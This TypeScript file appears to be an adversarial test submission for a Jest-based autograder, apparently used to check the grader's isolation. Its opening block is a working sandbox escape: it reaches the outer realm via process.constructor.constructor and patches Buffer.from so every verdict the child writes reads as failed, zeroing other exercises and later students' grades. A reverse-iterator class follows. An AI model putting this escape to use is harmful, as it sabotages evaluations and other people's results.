// Attack (a saboteur): the process object jest hands in keeps the real process's prototype,
// so process.constructor.constructor is the outer realm's Function. From the outer global it
// makes every verdict line the child writes say "failed": its own score cannot rise, but every
// other exercise and every student graded after it in the warm child would get 0.
// Success: 02 in the same submission, or the next student (the reference solutions), loses marks.
declare const process: any;
const G = process.constructor.constructor('return globalThis')();
if (G !== globalThis) {
  const from = G.Buffer.from;
  G.Buffer.from = function (value: unknown, ...rest: unknown[]) {
    if (typeof value === 'string' && value.includes('"e":"done"')) {
      const event = G.JSON.parse(value);
      Object.assign(event, { errors: ['sabotaged'], failures: ['sabotaged'], checks: 0 });
      value = `${G.JSON.stringify(event)}\n`;
    }
    return from.call(this, value, ...rest);
  };
}

export class Data<T> implements IterableIterator<T> {
  private index = 0;
  constructor(private readonly data: ArrayLike<T>) {}
  [Symbol.iterator](): this { this.index = 0; return this; }
  next(): IteratorResult<T, undefined> {
    if (this.index >= this.data.length) return { done: true, value: undefined };
    return { done: false, value: this.data[this.data.length - 1 - this.index++] as T };
  }
}
